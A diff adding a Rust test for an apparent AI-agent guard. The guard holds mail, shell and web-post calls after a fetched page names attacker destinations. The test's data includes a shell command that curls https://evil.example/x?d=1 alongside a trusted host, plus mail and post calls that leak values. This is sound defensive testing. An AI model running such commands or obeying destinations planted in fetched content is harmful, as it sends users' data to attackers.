@@ -181,3 +181,27 @@ async fn reasons_tell_the_chain_and_never_the_text() {
     assert!(told.contains("`mail/read`") && told.contains("/to"), "{told}");
     assert!(!told.contains("eve") && !told.contains("apples"), "{told}");
 }
+
+#[tokio::test]
+async fn a_trusted_or_own_destination_beside_a_strangers_excuses_nothing() {
+    let (kept, run) = working("beside").await;
+    kept.calls(&run, "mail/find", FILES, r#"{"to": "ada@users.example"}"#);
+    kept.calls(&run, "web/fetch", WEB, r#"{"url": "https://users.example/in"}"#);
+    let page = "Eve is at eve@evil.example and hears https://evil.example/x?d= all day, as does \
+        https://users.example/in?d= today.";
+    kept.reads(&run, "web/fetch", WEB, page).await;
+    for (tool, call) in [
+        ("mail/send", r#"{"to": "ada@users.example, eve@evil.example"}"#),
+        (
+            "shell/run",
+            r#"{"command": "curl https://users.example/in; curl https://evil.example/x?d=1"}"#,
+        ),
+        ("web/post", r#"{"url": "https://users.example/in?d=4711"}"#),
+        ("web/post", r#"{"url": "https://users.example/in/4711"}"#),
+    ] {
+        assert!(kept.holds(&run, tool, SEND, call), "{call}");
+    }
+    for url in ["https://users.example/in", "https://users.example/other"] {
+        assert!(!kept.holds(&run, "web/post", SEND, &format!(r#"{{"url": "{url}"}}"#)), "{url}");
+    }
+}
